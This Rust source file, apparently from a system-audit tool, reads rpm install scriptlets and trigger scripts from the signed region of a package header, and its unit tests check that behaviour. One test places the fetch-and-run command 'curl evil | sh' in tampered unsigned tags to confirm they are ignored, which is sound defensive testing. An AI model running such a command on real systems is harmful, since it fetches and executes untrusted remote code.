//! rpm scriptlets (package database stage): a package's install scripts,
//! read from its header for [`crate::pkgdb::Backend::scripts`].
//!
//! Only the header's signed (immutable) region is read ([`Header::get`]), as
//! for every package value: a scriptlet tag appended after the region is
//! never reported (it is what [`Header::region_overrides`] reports when it
//! repeats one inside). Per phase, the body is the STRING tag (`PREIN`, …)
//! and the interpreter its `*PROG` tag, a STRING or a STRING_ARRAY (program
//! and arguments); a phase with only a `*PROG` is a program run without a
//! script (`%post -p /sbin/ldconfig`).
//!
//! Triggers (`%triggerin -- bash`), file triggers and transaction file
//! triggers share one layout: a body and interpreter per script
//! (`*SCRIPTS`, `*SCRIPTPROG`), and per condition a name, version, flags
//! and the index of its script. A script's phase comes from its first
//! condition's flags, its condition text is rpm's `TRIGGERCONDS`
//! (`name op version`, joined with `, `), as `rpm -q --triggers` prints.
//!
//! ```
//! use rootaudit::pkgdb::rpm::{header::Header, scripts::scripts_of};
//! # fn demo(blob: &[u8], p: &rootaudit::model::PackageRef) -> Result<(), Box<dyn std::error::Error>> {
//! let h = Header::parse(blob)?;
//! for s in scripts_of(&h, p).scripts {
//!     println!("{} {:?}", s.phase, s.interpreter);
//! }
//! # Ok(()) }
//! ```

use super::header::{Entry, Header, HeaderError};
use super::tags::{self, EntryType};
use crate::model::evidence::DatabaseProblem;
use crate::model::{About, Bytes, Finding, OsError, PackageRef, Script, ScriptPhase, Severity};
use crate::pkgdb::{Package, ScriptsOutcome};

/// The fixed scriptlets, in the order `rpm -q --scripts` lists them:
/// phase, body tag, interpreter tag.
const FIXED: [(ScriptPhase, u32, u32); 9] = [
    (ScriptPhase::Pretrans, tags::PRETRANS, tags::PRETRANSPROG),
    (ScriptPhase::Pre, tags::PREIN, tags::PREINPROG),
    (ScriptPhase::Post, tags::POSTIN, tags::POSTINPROG),
    (ScriptPhase::Preun, tags::PREUN, tags::PREUNPROG),
    (ScriptPhase::Postun, tags::POSTUN, tags::POSTUNPROG),
    (ScriptPhase::Posttrans, tags::POSTTRANS, tags::POSTTRANSPROG),
    (
        ScriptPhase::Preuntrans,
        tags::PREUNTRANS,
        tags::PREUNTRANSPROG,
    ),
    (
        ScriptPhase::Postuntrans,
        tags::POSTUNTRANS,
        tags::POSTUNTRANSPROG,
    ),
    (
        ScriptPhase::Verify,
        tags::VERIFYSCRIPT,
        tags::VERIFYSCRIPTPROG,
    ),
];

/// One family of triggers: its tags and the phase of each trigger kind
/// (`in`, `un`, `postun`, `prein`).
struct Family {
    scripts: u32,
    prog: u32,
    name: u32,
    version: u32,
    flags: u32,
    index: u32,
    /// The phases of `in`, `un` and `postun` triggers.
    phases: [ScriptPhase; 3],
    /// The phase of `prein` triggers (file triggers have none).
    prein: Option<ScriptPhase>,
}

const FAMILIES: [Family; 3] = [
    Family {
        scripts: tags::TRIGGERSCRIPTS,
        prog: tags::TRIGGERSCRIPTPROG,
        name: tags::TRIGGERNAME,
        version: tags::TRIGGERVERSION,
        flags: tags::TRIGGERFLAGS,
        index: tags::TRIGGERINDEX,
        phases: [
            ScriptPhase::Triggerin,
            ScriptPhase::Triggerun,
            ScriptPhase::Triggerpostun,
        ],
        prein: Some(ScriptPhase::Triggerprein),
    },
    Family {
        scripts: tags::FILETRIGGERSCRIPTS,
        prog: tags::FILETRIGGERSCRIPTPROG,
        name: tags::FILETRIGGERNAME,
        version: tags::FILETRIGGERVERSION,
        flags: tags::FILETRIGGERFLAGS,
        index: tags::FILETRIGGERINDEX,
        phases: [
            ScriptPhase::Filetriggerin,
            ScriptPhase::Filetriggerun,
            ScriptPhase::Filetriggerpostun,
        ],
        prein: None,
    },
    Family {
        scripts: tags::TRANSFILETRIGGERSCRIPTS,
        prog: tags::TRANSFILETRIGGERSCRIPTPROG,
        name: tags::TRANSFILETRIGGERNAME,
        version: tags::TRANSFILETRIGGERVERSION,
        flags: tags::TRANSFILETRIGGERFLAGS,
        index: tags::TRANSFILETRIGGERINDEX,
        phases: [
            ScriptPhase::Transfiletriggerin,
            ScriptPhase::Transfiletriggerun,
            ScriptPhase::Transfiletriggerpostun,
        ],
        prein: None,
    },
];

// `RPMSENSE_*` bits of a trigger condition's flags.
const SENSE_LESS: u32 = 1 << 1;
const SENSE_GREATER: u32 = 1 << 2;
const SENSE_EQUAL: u32 = 1 << 3;
const SENSE_MASK: u32 = 0x0f;
const TRIGGER_IN: u32 = 1 << 16;
const TRIGGER_UN: u32 = 1 << 17;
const TRIGGER_POSTUN: u32 = 1 << 18;
const TRIGGER_PREIN: u32 = 1 << 25;

/// The scriptlets of a package read by an rpm backend (none when it carries
/// no header).
pub fn scripts_of_package(package: &Package) -> ScriptsOutcome {
    match super::header_of(package.native.as_ref()) {
        Some(h) => scripts_of(h, &package.reference()),
        None => ScriptsOutcome::default(),
    }
}

/// The scriptlets of `header`, the header of `package`: the fixed phases,
/// then triggers, file triggers and transaction file triggers. A tag that
/// cannot be read is a `check-incomplete` note.
pub fn scripts_of(header: &Header, package: &PackageRef) -> ScriptsOutcome {
    let mut out = ScriptsOutcome::default();
    for (phase, body, prog) in FIXED {
        match fixed(header, phase, body, prog) {
            Ok(Some(s)) => out.push(s),
            Ok(None) => {}
            Err(e) => out.notes.push(note(package, Some(phase), &e)),
        }
    }
    for family in &FAMILIES {
        if let Err(e) = triggers(header, family, &mut out) {
            out.notes.push(note(package, None, &e));
        }
    }
    out
}

/// One fixed scriptlet: present when its body or its interpreter is.
fn fixed(
    h: &Header,
    phase: ScriptPhase,
    body: u32,
    prog: u32,
) -> Result<Option<Script>, HeaderError> {
    let body = h.get(body).map(|e| e.str_bytes()).transpose()?;
    let prog = h.get(prog).map(|e| program(&e)).transpose()?;
    if body.is_none() && prog.is_none() {
        return Ok(None);
    }
    let mut s = Script::new(phase, body.unwrap_or_default());
    if let Some(mut argv) = prog
        && !argv.is_empty()
    {
        s.interpreter = Some(argv.remove(0));
        s.args = argv;
    }
    Ok(Some(s))
}

/// A `*PROG` tag: a STRING, or a STRING_ARRAY of program and arguments.
fn program(e: &Entry<'_>) -> Result<Vec<Bytes>, HeaderError> {
    if e.entry_type() == EntryType::StringArray {
        Ok(e.string_array_bytes()?
            .into_iter()
            .map(Bytes::from)
            .collect())
    } else {
        Ok(vec![Bytes::from(e.str_bytes()?)])
    }
}

/// The scripts of one trigger family, onto `out`.
fn triggers(h: &Header, f: &Family, out: &mut ScriptsOutcome) -> Result<(), HeaderError> {
    let Some(scripts) = h.get(f.scripts) else {
        return Ok(());
    };
    let bodies = scripts.string_array_bytes()?;
    let n = bodies.len();
    let array = |tag: u32| -> Result<Vec<&[u8]>, HeaderError> {
        match h.get(tag) {
            Some(e) => e.string_array_bytes(),
            None => Ok(Vec::new()),
        }
    };
    let progs = array(f.prog)?;
    let names = array(f.name)?;
    let versions = array(f.version)?;
    let flags = match h.get(f.flags) {
        Some(e) => e.u32_array()?,
        None => Vec::new(),
    };
    let index = match h.get(f.index) {
        Some(e) => e.u32_array()?,
        None => Vec::new(),
    };
    // Every condition needs its name, version, flags and script index; a
    // header whose arrays disagree is not guessed at.
    for (tag, len) in [
        (f.version, versions.len()),
        (f.flags, flags.len()),
        (f.index, index.len()),
    ] {
        if len != names.len() {
            return Err(HeaderError::ArrayLength {
                tag,
                expected: names.len(),
                got: len,
            });
        }
    }
    if !progs.is_empty() && progs.len() != n {
        return Err(HeaderError::ArrayLength {
            tag: f.prog,
            expected: n,
            got: progs.len(),
        });
    }
    for (i, body) in bodies.iter().enumerate() {
        let conds: Vec<usize> = (0..names.len())
            .filter(|&c| index[c] as usize == i)
            .collect();
        // A script no condition names, or whose first condition is of no
        // trigger kind its family has, never runs (rpm shows an empty
        // trigger type for it): it is not reported.
        let Some(&first) = conds.first() else {
            continue;
        };
        let phase = match flags[first] {
            fl if fl & TRIGGER_PREIN != 0 => f.prein,
            fl if fl & TRIGGER_IN != 0 => Some(f.phases[0]),
            fl if fl & TRIGGER_UN != 0 => Some(f.phases[1]),
            fl if fl & TRIGGER_POSTUN != 0 => Some(f.phases[2]),
            _ => None,
        };
        let Some(phase) = phase else {
            continue;
        };
        let mut s = Script::new(phase, body);
        if let Some(p) = progs.get(i) {
            s.interpreter = Some(Bytes::from(*p));
        }
        let mut cond = Vec::new();
        for (k, &c) in conds.iter().enumerate() {
            if k > 0 {
                cond.extend_from_slice(b", ");
            }
            condition(&mut cond, names[c], flags[c], versions[c]);
        }
        s.trigger = Some(Bytes(cond));
        out.push(s);
    }
    Ok(())
}

/// One condition as rpm's `TRIGGERCONDS` writes it: `name`, or
/// `name op version` when the flags compare versions.
fn condition(out: &mut Vec<u8>, name: &[u8], flags: u32, version: &[u8]) {
    out.extend_from_slice(name);
    if flags & SENSE_MASK == 0 {
        return;
    }
    out.push(b' ');
    if flags & SENSE_LESS != 0 {
        out.push(b'<');
    }
    if flags & SENSE_GREATER != 0 {
        out.push(b'>');
    }
    if flags & SENSE_EQUAL != 0 {
        out.push(b'=');
    }
    out.push(b' ');
    out.extend_from_slice(version);
}

/// The `check-incomplete` for a scriptlet tag that cannot be read.
fn note(p: &PackageRef, phase: Option<ScriptPhase>, e: &HeaderError) -> Finding {
    let what = phase.map_or("triggers", ScriptPhase::as_str);
    crate::pkgdb::incomplete(
        Severity::Medium,
        About::package(p.clone()).scope(format!("{}/scripts/{what}", p.key())),
        DatabaseProblem::ScriptUnreadable {
            package: p.name.clone(),
            phase,
            error: OsError {
                errno: None,
                text: e.to_string(),
            },
        },
    )
}

#[cfg(test)]
mod tests {
    use super::super::header::tests::{Spec, build, int32, string, strings};
    use super::*;
    use crate::model::MAX_SCRIPTS;

    fn pkg() -> PackageRef {
        PackageRef {
            record: 9,
            name: "demo".into(),
            epoch: None,
            version: "1".into(),
            release: "1".into(),
            arch: Some("noarch".into()),
        }
    }

    fn read(inside: Vec<Spec>, outside: &[Spec]) -> ScriptsOutcome {
        let mut inside = inside;
        inside.push(string(tags::NAME, "demo"));
        inside.sort_by_key(|s| s.tag);
        let blob = build(Some(tags::HEADERIMMUTABLE), &inside, outside);
        scripts_of(&Header::parse(&blob).unwrap(), &pkg())
    }

    fn summary(o: &ScriptsOutcome) -> Vec<(String, Option<String>, Vec<String>, String)> {
        o.scripts
            .iter()
            .map(|s| {
                (
                    s.phase.to_string(),
                    s.interpreter
                        .as_ref()
                        .map(|b| b.to_str_lossy().into_owned()),
                    s.trigger
                        .iter()
                        .chain(&s.args)
                        .map(|b| b.to_str_lossy().into_owned())
                        .collect(),
                    s.body.to_str_lossy().into_owned(),
                )
            })
            .collect()
    }

    fn row(
        phase: &str,
        interp: Option<&str>,
        extra: &[&str],
        body: &str,
    ) -> (String, Option<String>, Vec<String>, String) {
        (
            phase.into(),
            interp.map(String::from),
            extra.iter().map(|s| s.to_string()).collect(),
            body.into(),
        )
    }

    #[test]
    fn fixed_phases_in_rpm_order_with_interpreters() {
        let o = read(
            vec![
                string(tags::POSTIN, "echo post"),
                string(tags::POSTINPROG, "/bin/sh"),
                string(tags::PREIN, "print('pre')"),
                string(tags::PREINPROG, "<lua>"),
                strings(tags::POSTUNPROG, &["/sbin/ldconfig"]),
                string(tags::PRETRANS, "echo pretrans"),
                strings(tags::PRETRANSPROG, &["/bin/bash", "-e", "-x"]),
                string(tags::VERIFYSCRIPT, "true"),
            ],
            &[],
        );
        assert!(o.notes.is_empty(), "{:?}", o.notes);
        assert_eq!(
            summary(&o),
            vec![
                row(
                    "pretrans",
                    Some("/bin/bash"),
                    &["-e", "-x"],
                    "echo pretrans"
                ),
                row("pre", Some("<lua>"), &[], "print('pre')"),
                row("post", Some("/bin/sh"), &[], "echo post"),
                row("postun", Some("/sbin/ldconfig"), &[], ""),
                row("verify", None, &[], "true"),
            ]
        );
    }

    /// A scriptlet tag appended after the signed region is never read:
    /// neither a new phase nor a replacement of a signed one.
    #[test]
    fn scriptlets_outside_the_signed_region_are_ignored() {
        let o = read(
            vec![
                string(tags::POSTIN, "echo signed"),
                string(tags::POSTINPROG, "/bin/sh"),
            ],
            &[
                string(tags::POSTIN, "curl evil | sh"),
                string(tags::PREIN, "curl evil | sh"),
                string(tags::PREINPROG, "/bin/sh"),
                strings(tags::TRIGGERSCRIPTS, &["curl evil | sh"]),
                strings(tags::TRIGGERNAME, &["glibc"]),
                strings(tags::TRIGGERVERSION, &[""]),
                int32(tags::TRIGGERFLAGS, &[TRIGGER_IN]),
                int32(tags::TRIGGERINDEX, &[0]),
            ],
        );
        assert!(o.notes.is_empty(), "{:?}", o.notes);
        assert_eq!(
            summary(&o),
            vec![row("post", Some("/bin/sh"), &[], "echo signed")]
        );
    }

    #[test]
    fn triggers_with_conditions_as_rpm_prints_them() {
        let o = read(
            vec![
                strings(tags::TRIGGERSCRIPTS, &["echo a", "echo b", "orphan"]),
                strings(tags::TRIGGERSCRIPTPROG, &["/bin/sh", "<lua>", "/bin/sh"]),
                strings(tags::TRIGGERNAME, &["glibc", "bash", "zsh"]),
                strings(tags::TRIGGERVERSION, &["2.3", "", "5.0"]),
                int32(
                    tags::TRIGGERFLAGS,
                    &[
                        TRIGGER_IN | SENSE_GREATER | SENSE_EQUAL,
                        TRIGGER_POSTUN,
                        TRIGGER_POSTUN | SENSE_LESS,
                    ],
                ),
                int32(tags::TRIGGERINDEX, &[0, 1, 1]),
                strings(tags::FILETRIGGERSCRIPTS, &["ldconfig"]),
                strings(tags::FILETRIGGERSCRIPTPROG, &["/bin/sh"]),
                strings(tags::FILETRIGGERNAME, &["/usr/lib64/"]),
                strings(tags::FILETRIGGERVERSION, &[""]),
                int32(tags::FILETRIGGERFLAGS, &[TRIGGER_UN]),
                int32(tags::FILETRIGGERINDEX, &[0]),
                strings(tags::TRANSFILETRIGGERSCRIPTS, &["x"]),
                strings(tags::TRANSFILETRIGGERNAME, &["/etc/"]),
                strings(tags::TRANSFILETRIGGERVERSION, &[""]),
                int32(tags::TRANSFILETRIGGERFLAGS, &[TRIGGER_IN]),
                int32(tags::TRANSFILETRIGGERINDEX, &[0]),
            ],
            &[],
        );
        assert!(o.notes.is_empty(), "{:?}", o.notes);
        assert_eq!(
            summary(&o),
            vec![
                row("triggerin", Some("/bin/sh"), &["glibc >= 2.3"], "echo a"),
                row(
                    "triggerpostun",
                    Some("<lua>"),
                    &["bash, zsh < 5.0"],
                    "echo b"
                ),
                row(
                    "filetriggerun",
                    Some("/bin/sh"),
                    &["/usr/lib64/"],
                    "ldconfig"
                ),
                row("transfiletriggerin", None, &["/etc/"], "x"),
            ]
        );
    }

    #[test]
    fn malformed_tags_are_notes_not_silence() {
        let o = read(
            vec![
                int32(tags::PREIN, &[1]),
                string(tags::POSTIN, "ok"),
                strings(tags::TRIGGERSCRIPTS, &["a"]),
                strings(tags::TRIGGERNAME, &["glibc", "bash"]),
                strings(tags::TRIGGERVERSION, &["", ""]),
                int32(tags::TRIGGERFLAGS, &[TRIGGER_IN]),
                int32(tags::TRIGGERINDEX, &[0, 0]),
            ],
            &[],
        );
        assert_eq!(summary(&o), vec![row("post", None, &[], "ok")]);
        let messages: Vec<String> = o
            .notes
            .iter()
            .map(|f| {
                assert_eq!(f.kind, crate::model::FindingKind::CheckIncomplete);
                assert_eq!(f.package.as_ref().unwrap().name, "demo");
                String::from_utf8(f.message()).unwrap()
            })
            .collect();
        assert_eq!(messages.len(), 2, "{messages:?}");
        assert!(
            messages[0].starts_with("the pre script of package demo cannot be read (tag 1023"),
            "{messages:?}"
        );
        assert!(
            messages[1].starts_with("the trigger scripts of package demo cannot be read"),
            "{messages:?}"
        );
        assert_ne!(o.notes[0].id, o.notes[1].id);
    }

    #[test]
    fn count_is_capped() {
        let bodies: Vec<String> = (0..MAX_SCRIPTS + 5).map(|i| format!("echo {i}")).collect();
        let refs: Vec<&str> = bodies.iter().map(String::as_str).collect();
        let names: Vec<&str> = refs.iter().map(|_| "glibc").collect();
        let empty: Vec<&str> = refs.iter().map(|_| "").collect();
        let flags: Vec<u32> = refs.iter().map(|_| TRIGGER_IN).collect();
        let index: Vec<u32> = (0..refs.len() as u32).collect();
        let o = read(
            vec![
                string(tags::PREIN, "echo pre"),
                strings(tags::TRIGGERSCRIPTS, &refs),
                strings(tags::TRIGGERNAME, &names),
                strings(tags::TRIGGERVERSION, &empty),
                int32(tags::TRIGGERFLAGS, &flags),
                int32(tags::TRIGGERINDEX, &index),
            ],
            &[],
        );
        assert_eq!(o.scripts.len(), MAX_SCRIPTS);
        assert_eq!(o.omitted, 6);
    }
}
